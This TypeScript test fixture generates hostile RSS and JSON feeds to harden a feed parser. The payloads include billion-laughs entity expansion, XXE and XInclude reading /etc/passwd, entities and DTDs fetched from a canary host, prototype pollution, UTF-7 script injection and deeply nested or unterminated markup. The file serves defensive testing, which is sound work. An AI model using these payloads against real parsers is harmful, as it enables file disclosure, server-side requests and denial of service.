/** Documents that would exhaust, crash, pollute or send out whoever reads them without care. */
import { gzipSync } from 'node:zlib';
import type { HostileDocument } from './injected-feeds.ts';

const item = '<item><title>A title</title><link>https://partner.example/1</link><guid>1</guid></item>';
const xml = (before: string, items: string, inRoot = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"${inRoot}><channel><title>t</title>${items}</channel></rss>`;
const channelOf = (items: string) => xml('', items);

/** Shapes: `canary` is an origin that nobody may ask; `scale` makes the long ones longer or shorter. */
export function attackDocuments(canary: string, scale = 1): readonly HostileDocument[] {
  const n = (count: number) => Math.max(1, Math.round(count * scale));
  const laughs = (levels: number, width: number) =>
    Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(width)}">`).join('');
  const rss = (name: string, body: string): HostileDocument => ({
    name,
    body,
    contentType: 'application/rss+xml',
  });
  const feedJson = (name: string, body: string): HostileDocument => ({
    name,
    body,
    contentType: 'application/feed+json',
  });
  return [
    rss(
      'billion laughs',
      xml(
        `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs(10, 10)}]>`,
        `<item><title>&l10;</title><guid>1</guid></item>`,
      ),
    ),
    rss(
      'quadratic expansion',
      xml(
        `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(n(50_000))}">]>`,
        `<item><title>${'&a;'.repeat(n(50_000))}</title><guid>1</guid></item>`,
      ),
    ),
    rss(
      'an entity of itself',
      xml(
        '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        '<item><title>&a;</title><guid>1</guid></item>',
      ),
    ),
    rss(
      'parameter entities',
      xml(
        `<!DOCTYPE rss [<!ENTITY % p "<!ENTITY &#37; q '&#37;r;'>"> %p; %q; <!ENTITY % r SYSTEM "${canary}/r.dtd"> %r;]>`,
        item,
      ),
    ),
    rss(
      '100,000 declarations',
      xml(
        `<!DOCTYPE rss [${Array.from({ length: n(100_000) }, (_, i) => `<!ENTITY e${i} "x">`).join('')}]>`,
        item,
      ),
    ),
    rss(
      'an entity from a file',
      xml(
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<item><title>&x;</title><description>&x;</description><guid>1</guid></item>',
      ),
    ),
    rss(
      'an entity from a host',
      xml(
        `<!DOCTYPE rss [<!ENTITY x SYSTEM "${canary}/x">]>`,
        '<item><title>&x;</title><guid>1</guid></item>',
      ),
    ),
    rss('a DTD from a host', xml(`<!DOCTYPE rss PUBLIC "-//x//x" "${canary}/x.dtd">`, item)),
    rss(
      'XInclude',
      xml(
        '',
        `<item><title><xi:include href="file:///etc/passwd" parse="text"/></title><description><xi:include href="${canary}/x"/></description><guid>1</guid></item>`,
        ' xmlns:xi="http://www.w3.org/2001/XInclude"',
      ),
    ),
    rss('a stylesheet from a host', xml(`<?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?>`, item)),
    rss(
      'a schema from a host',
      xml(
        '',
        item,
        ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${canary}/x.xsd"`,
      ),
    ),
    rss('elements 500,000 deep', channelOf(`${item}${'<a>'.repeat(n(500_000))}`)),
    rss(
      'elements 100,000 deep, and closed',
      channelOf(
        `<item><description>${'<b>'.repeat(n(100_000))}${'</b>'.repeat(n(100_000))}</description><guid>1</guid></item>`,
      ),
    ),
    rss(
      'markup 200,000 deep in a text',
      channelOf(
        `<item><title>t</title><description>${'&lt;b&gt;'.repeat(n(200_000))}</description><guid>1</guid></item>`,
      ),
    ),
    rss(
      'misnested formatting',
      channelOf(
        `<item><title>t</title><description>${'&lt;b&gt;&lt;i&gt;&lt;/b&gt;&lt;a href=x&gt;'.repeat(n(30_000))}</description><guid>1</guid></item>`,
      ),
    ),
    rss(
      'an attribute of 2 MB',
      channelOf(
        `<item><title>t</title><category domain="${'a'.repeat(n(2_000_000))}">c</category><guid>1</guid></item>`,
      ),
    ),
    rss(
      '100,000 attributes',
      channelOf(
        `<item ${Array.from({ length: n(100_000) }, (_, i) => `a${i}="1"`).join(' ')}><title>t</title><guid>1</guid></item>`,
      ),
    ),
    rss(
      '100,000 namespaces',
      xml('', item, Array.from({ length: n(100_000) }, (_, i) => ` xmlns:n${i}="urn:${i}"`).join('')),
    ),
    rss('an element name of 1 MB', channelOf(`<${'n'.repeat(n(1_000_000))}/>${item}`)),
    rss('a million items', channelOf('<item/>'.repeat(n(1_000_000) > 600_000 ? 600_000 : n(1_000_000)))),
    rss(
      '40,000 items that all name themselves',
      channelOf(
        Array.from(
          { length: n(40_000) },
          (_, i) =>
            `<item><title>${i}</title><guid>${i}</guid><link>https://partner.example/${i}</link></item>`,
        ).join(''),
      ),
    ),
    rss(
      '100,000 categories',
      channelOf(
        `<item><title>t</title>${Array.from({ length: n(100_000) }, (_, i) => `<category>c${i}</category>`).join('')}<guid>1</guid></item>`,
      ),
    ),
    rss(
      'brackets without end, as an author',
      channelOf(`<item><title>t</title><author>${'('.repeat(n(400_000))}</author><guid>1</guid></item>`),
    ),
    rss(
      'less-than without end',
      channelOf(
        `<item><title>t</title><description>${'&lt;'.repeat(n(800_000))}</description><guid>1</guid></item>`,
      ),
    ),
    rss(
      'less-than without end, unescaped',
      channelOf(`<item><title>${'<'.repeat(n(1_000_000))}</title><guid>1</guid></item>`),
    ),
    rss(
      'ampersands without end',
      channelOf(`<item><title>${'&'.repeat(n(1_000_000))}</title><guid>1</guid></item>`),
    ),
    rss('comments that open and never close', channelOf(`${'<!--'.repeat(n(500_000))}${item}`)),
    rss('CDATA that opens and never closes', channelOf(`${'<![CDATA['.repeat(n(300_000))}${item}`)),
    rss('instructions without end', channelOf(`${'<?x '.repeat(n(500_000))}${item}`)),
    rss('a DOCTYPE without end', `<?xml version="1.0"?><!DOCTYPE ${'['.repeat(n(1_000_000))}`),
    ...[
      ' ',
      '\t\n',
      '.',
      '@',
      'a@',
      '0',
      '0 ',
      '-',
      ':',
      '/',
      '%20',
      '#',
      '[',
      '&nbsp;',
      '\u0301',
      '\u200b',
      'www.',
      'http://',
      '01234 ',
      'By ',
      'Share ',
    ].flatMap((food) => [
      rss(
        `"${JSON.stringify(food).slice(1, -1)}" without end, in every field`,
        everyField(food.repeat(Math.ceil(n(150_000) / food.length))),
      ),
    ]),
    rss(
      'a date without end',
      channelOf(
        `<item><title>t</title><pubDate>${'Mon, '.repeat(n(200_000))}</pubDate><guid>1</guid></item>`,
      ),
    ),
    rss(
      '__proto__ as elements',
      channelOf(
        '<item><title>t</title><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor><toString>x</toString><hasOwnProperty>x</hasOwnProperty><guid>1</guid></item>',
      ),
    ),
    rss(
      '__proto__ as the root',
      '<?xml version="1.0"?><__proto__><channel><item><title>t</title></item></channel></__proto__>',
    ),
    feedJson(
      '__proto__ in JSON',
      '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"polluted":"yes"},"title":"t","items":[{"id":"1","title":"t","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}]}',
    ),
    feedJson(
      'JSON 1,000,000 deep',
      `{"version":"https://jsonfeed.org/version/1.1","items":${'['.repeat(n(1_000_000))}`,
    ),
    feedJson(
      'JSON 100,000 deep, and closed',
      `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","title":"t","x":${'['.repeat(n(100_000))}${']'.repeat(n(100_000))}}]}`,
    ),
    feedJson(
      'JSON of wrong shapes',
      '{"version":"https://jsonfeed.org/version/1.1","title":[1],"items":[null,1,"x",[],{},{"id":{}},{"id":"1","title":{},"url":[],"tags":{"length":1e9},"authors":"x","date_published":{},"content_html":7,"image":{},"attachments":{}}]}',
    ),
    feedJson(
      'a number of 1 MB',
      `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":${'9'.repeat(n(1_000_000))},"title":"t"}]}`,
    ),
    rss(
      'characters beyond the last',
      channelOf(
        '<item><title>&#1114112; &#xFFFFFFFF; &#xD800; &#0; &#x1F600; &#99999999999999999999;</title><guid>1</guid></item>',
      ),
    ),
    rss('a backslash in the DOCTYPE', xml('<!DOCTYPE rss [\\<!ENTITY a "b"]>', item)),
    {
      name: 'UTF-16 that breaks off in a character',
      contentType: 'application/rss+xml',
      body: Buffer.from(`\ufeff${channelOf(item)}`, 'utf16le').subarray(0, -1),
    },
    {
      name: 'UTF-7',
      contentType: 'application/rss+xml; charset=utf-7',
      body: channelOf(
        '<item><title>+ADw-script+AD4-top.fire(1)+ADw-/script+AD4-</title><guid>1</guid></item>',
      ),
    },
    {
      name: 'overlong UTF-8',
      contentType: 'application/rss+xml',
      body: Buffer.concat([
        Buffer.from(channelOf('<item><title>').slice(0, -16)),
        Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]),
        Buffer.from('script</title><guid>1</guid></item></channel></rss>'),
      ]),
    },
    {
      name: 'noise',
      contentType: 'application/rss+xml',
      body: Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 2_654_435_761) >>> 24)),
    },
    {
      name: 'zip in place of a feed',
      contentType: 'application/rss+xml',
      body: Buffer.concat([Buffer.from('PK\u0003\u0004'), gzipSync('x'.repeat(10_000))]),
    },
    { name: 'NULs', contentType: 'application/rss+xml', body: Buffer.alloc(1_000_000) },
  ];
}

function everyField(text: string): string {
  const short = text.slice(0, 20_000);
  return `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>${short}</title><item><title>${text}</title><link>https://partner.example/${short}</link><guid>${short}</guid><description>${text}</description><content:encoded>${text}</content:encoded><dc:creator>${text}</dc:creator><category>${text}</category><pubDate>${text}</pubDate></item><item><title>t</title><guid>2</guid></item></channel></rss>`;
}
